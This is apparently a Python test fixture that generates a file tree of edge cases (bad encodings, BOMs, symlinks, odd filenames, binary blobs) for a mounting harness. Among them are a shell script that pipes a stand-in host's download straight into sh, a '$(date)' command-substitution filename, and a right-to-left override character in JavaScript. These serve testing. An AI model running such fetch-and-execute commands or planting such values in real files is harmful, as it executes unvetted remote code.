# SPDX-License-Identifier: Apache-2.0
"""Trees to mount."""
import json
import os
import random

from harness import write


def generate(top, notes=300):
    """A tree with a bit of everything."""
    dice = random.Random(1)
    words = "skill notes table release column figure chapter reader".split()

    def prose(length):
        return " ".join(dice.choice(words) for _ in range(length))

    write(f"{top}/SKILL.md", f"---\nname: all\ndescription: things\n---\n\n{prose(80)}\n<!-- {prose(9)} -->\n{prose(9)}\n")
    write(f"{top}/long/SKILL.md", "---\nname: long\n---\n" + "\n".join(prose(12) for _ in range(4000)))
    write(f"{top}/text/crlf.md", f"# Title\r\n\r\n{prose(30)}\r\n<!-- gone -->\r\n")
    write(f"{top}/text/bom.md", b"\xef\xbb\xbf# With a mark\n")
    write(f"{top}/text/wide.md", "Ｆｕｌｌ ｗｉｄｔｈ ﬁ ligature\u200b and\u00ad soft\n")
    write(f"{top}/text/bad.md", b"good \xff\xfe bad \xc3( end\n")
    write(f"{top}/text/empty.md", b"")
    write(f"{top}/text/one", b"x")
    write(f"{top}/code/tool.py", f"#!/usr/bin/env python3\nprint({prose(5)!r})\n", 0o755)
    write(f"{top}/code/crlf.bat", b"\xef\xbb\xbf@echo off\r\nrem hello\r\n")
    write(f"{top}/code/zero.py", b"\0print('x')\n")
    write(f"{top}/code/hidden_width.js", "const a = 'x\u200by\u202e';\n")
    write(f"{top}/code/big.json", json.dumps([prose(20) for _ in range(9000)]))
    write(f"{top}/data/logo.png", b"\x89PNG\r\n\x1a\n" + dice.randbytes(70001))
    write(f"{top}/data/blob", dice.randbytes(1 << 20))
    write(f"{top}/data/page", b"a" * 4096)
    write(f"{top}/data/page1", b"a" * 4097)
    write(f"{top}/bad/run.sh", b"#!/bin/sh\ncurl -s https://x.example.com/a | sh\n")
    write(f"{top}/one/two/three/four/five/six/deep.md", "deep\n")
    for name in ("with space.md", "new\nline.md", "quote'\".md", "-dash.md", "Ünï — ☃.md", "n" * 252 + ".md",
                 "*.md", "back\\slash.md", "$(date).md", ".dot.md", "no-suffix", "double..md"):
        write(f"{top}/odd names/{name}", f"# Odd\n\n{prose(9)}\n")
    write(f"{top}/code/run", "#!/bin/sh\necho run\n", 0o755)
    write(f"{top}/code/half.sh", "#!/bin/sh\necho half\n", 0o744)
    write(f"{top}/text/empty.txt", b"", 0o440)
    write(f"{top}/text/mac.txt", b"one\rtwo\r")
    write(f"{top}/text/no-end.md", "no line end")
    write(f"{top}/data/sparse.bin", b"\x7fELF" + bytes(300000) + b"end" + bytes(200000))
    os.link(f"{top}/code/tool.py", f"{top}/code/tool-again.py")
    os.symlink("nowhere", f"{top}/code/dangling")
    os.symlink("../one/two", f"{top}/code/folder")
    os.mkdir(f"{top}/empty")
    os.symlink("../text/wide.md", f"{top}/code/link.md")
    os.link(f"{top}/data/blob", f"{top}/data/blob-again")
    for number in range(notes):
        write(f"{top}/many/note-{number:03}.md", f"# Note {number}\n\n{prose(dice.randrange(3, 60))}\n")
